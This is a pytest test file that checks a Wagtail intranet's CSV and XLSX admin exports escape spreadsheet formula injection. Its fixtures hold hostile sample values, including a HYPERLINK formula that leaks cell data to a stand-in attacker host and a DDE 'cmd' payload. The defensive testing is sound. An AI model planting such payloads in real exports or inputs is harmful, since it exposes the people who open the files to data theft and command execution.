"""No CSV export of the admin starts a formula in a spreadsheet program (issue 13, item 8).

Before: a change proposal starting ``=HYPERLINK(…)`` was exported unescaped by every snippet
listing's and report's CSV export; opened in a spreadsheet program it is a live formula (it
can send the neighbouring cells to another site). Now a cell that starts with = + - @ (or a
tab or carriage return) gets a leading apostrophe; numbers stay numbers; the XLSX export keeps
the text as text.

The exports are found by walking the URLconf: every admin view with Wagtail's
SpreadsheetExportMixin and columns to export (the apps' snippet listings and reports and
Wagtail's own reports). The data comes in the way people enter it: a proposal through the
form on a page, a search in the search box, workplaces and tools through the admin's forms, a
page edited and a link found by the link check.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from intranet.ledning.exports import FormulaSafeExportMixin, escape_formula
from intranet.ledning.linkcheck import services as linkcheck
from intranet.portal.demo import users as demo
from tests.factories import GovernedDocumentFactory
from tests.linkcheck.servers import LinkServer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://angripare.example/?d="&A2;"Klicka här")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+46 70 123 45 67"
MINUS = "-2+3"
SHORT = "=1+1"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def export_views() -> dict[str, type]:
    """Every URL of the site whose view exports a spreadsheet: path → view class."""
    found: dict[str, type] = {}

    def walk(patterns, prefix: str) -> None:
        for pattern in patterns:
            route = prefix + str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, route)
                continue
            assert isinstance(pattern, URLPattern)
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
                continue
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if not (initkwargs.get("list_export") or view_class.list_export):
                continue
            if "<" in route or "^" in route:
                continue  # needs an object (form submissions of one page): none here
            found["/" + route] = view_class

    walk(get_resolver().url_patterns, "")
    return found


def csv_cells(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def formulas_everywhere(site_tree, settings, django_capture_on_commit_callbacks):
    """Text that a spreadsheet program would run, in everything that is exported."""
    settings.LEDNING_LINKCHECK_SKIP = ["*.example.se", "example.se"]
    settings.LEDNING_LINKCHECK_RETRY_BACKOFF = 0.05
    demo.load_demo_users(site_tree.start)
    users = get_user_model().objects
    staff = Client()
    staff.force_login(users.get(username="medarbetare"))
    admin_user = users.get(username="admin")  # the demo's superuser
    admin = Client()
    admin.force_login(admin_user)

    # A member of staff proposes a change and searches.
    with django_capture_on_commit_callbacks(execute=True):
        response = staff.post(
            reverse("ledning:propose_page", args=[site_tree.process.pk]),
            {"text": HYPERLINK, "kind": "vikt"},
        )
    assert response.status_code == 200
    staff.get("/sok/", {"q": HYPERLINK})

    # Editors enter a workplace and a tool in the admin.
    response = admin.post(
        reverse("wagtailsnippets_ledning_workplace:add"),
        {"name": PLUS, "key": "plus-arbetsplats", "parent": ""},
    )
    assert response.status_code == 302 and "/admin/" in response["Location"]
    response = admin.post(
        reverse("wagtailsnippets_staff_tool:add"),
        {"name": MINUS, "url": "https://verktyg.example/", "description": SHORT},
    )
    assert response.status_code == 302 and "/admin/" in response["Location"]

    # A governed document no page lists (the orphans report), with a formula for its title.
    GovernedDocumentFactory(title=SUM, owner=HYPERLINK)

    # A page edited in Wagtail (site history) and a broken link with formula text.
    process = site_tree.process
    with LinkServer("127.0.0.6") as web:
        process.intro = f'<p><a href="{web.url("/gone")}">{HYPERLINK}</a></p>'
        process.title = SUM
        process.save_revision(user=admin_user, log_action=True)
        process.save()
        linkcheck.run_full_check()
    return admin


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Rutin = text", "Rutin = text"),
        ("'=1+1", "'=1+1"),  # already text: not escaped twice
        (-5, -5),  # a number is a number
        (None, None),
    ],
)
def test_escape_formula(value, written):
    assert escape_formula(value) == written


def test_every_export_is_found():
    views = export_views()
    names = {view.__name__ for view in views.values()}
    for wanted in (
        "ReviewReportView",
        "OwnerlessReportView",
        "OrphanDocumentsReportView",
        "ChangeLogReportView",
        "BrokenLinksReportView",
        "SearchTermsReportView",
        "LogEntriesView",
    ):
        assert wanted in names, sorted(names)
    paths = set(views)
    for viewset in ("ledning/governeddocument", "ledning/changeproposal", "staff/tool"):
        assert any(viewset in path for path in paths), viewset


def test_the_apps_own_exports_escape_by_themselves():
    """The management system and the staff app escape in any site that installs them, not only
    in this one (which also covers Wagtail's own exports, portal/exports.py)."""
    for path, view in export_views().items():
        model = getattr(view, "model", None)
        ours = view.__module__.startswith("intranet.") or (
            model is not None and model.__module__.startswith("intranet.")
        )
        if ours:
            assert issubclass(view, FormulaSafeExportMixin), (path, view)


def test_no_csv_export_starts_a_formula(formulas_everywhere):
    admin = formulas_everywhere
    escaped_in: dict[str, str] = {}
    for path in sorted(export_views()):
        response = admin.get(path, {"export": "csv"})
        assert response.status_code == 200, (path, response.status_code)
        assert response["Content-Type"].startswith("text/csv"), path
        rows = csv_cells(response)
        for row in rows:
            for cell in row:
                assert not cell.startswith(TRIGGERS) or is_number(cell), (path, cell)
        text = "\n".join(",".join(row) for row in rows)
        for value in (HYPERLINK, SUM, PLUS, MINUS, SHORT):
            if "'" + value in text:
                escaped_in.setdefault(value, path)
    # The formulas were there to be escaped: each one reached some export.
    assert set(escaped_in) == {HYPERLINK, SUM, PLUS, MINUS, SHORT}, escaped_in

    proposals = csv_cells(admin.get(path_of("changeproposal"), {"export": "csv"}))
    assert "'" + HYPERLINK in proposals[1]
    terms = csv_cells(admin.get(reverse("wagtailsearchpromotions:search_terms"), {"export": "csv"}))
    # (Search terms are stored normalised: in lower case.)
    assert any(cell.startswith("'=hyperlink(") for row in terms for cell in row), terms
    links = csv_cells(admin.get(reverse("ledning_linkcheck:report"), {"export": "csv"}))
    assert any("'" + HYPERLINK in row for row in links)


def test_the_xlsx_export_keeps_formulas_as_text(formulas_everywhere):
    admin = formulas_everywhere
    for path in (path_of("changeproposal"), reverse("ledning_reports:orphans")):
        response = admin.get(path, {"export": "xlsx"})
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        cells = [cell for row in workbook.active.iter_rows() for cell in row]
        formulas = [cell for cell in cells if str(cell.value or "").startswith(("=", "@"))]
        assert formulas, path
        for cell in formulas:
            assert cell.data_type == "s", (path, cell.value)


def path_of(model_name: str) -> str:
    return next(path for path in export_views() if f"/{model_name}/" in path)
